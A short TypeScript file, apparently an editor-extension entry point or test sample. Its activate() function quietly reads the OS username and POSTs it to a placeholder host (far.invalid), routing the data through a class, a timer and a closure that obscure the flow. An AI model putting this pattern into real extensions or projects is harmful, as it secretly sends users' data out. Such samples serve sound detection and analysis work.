import * as os from 'os';
const name = () => os.userInfo().username;
const later = async () => { await new Promise((done) => setTimeout(done, 1)); return name(); };
const send = (data: unknown) => { fetch('https://far.invalid/', { method: 'POST', body: String(data) }); };

class Subject { constructor(private readonly v: () => Promise<string>, protected n = '42') {} async go() { send(this.n + await this.v()); } }

export async function activate() {
  await new Subject(later).go();
}
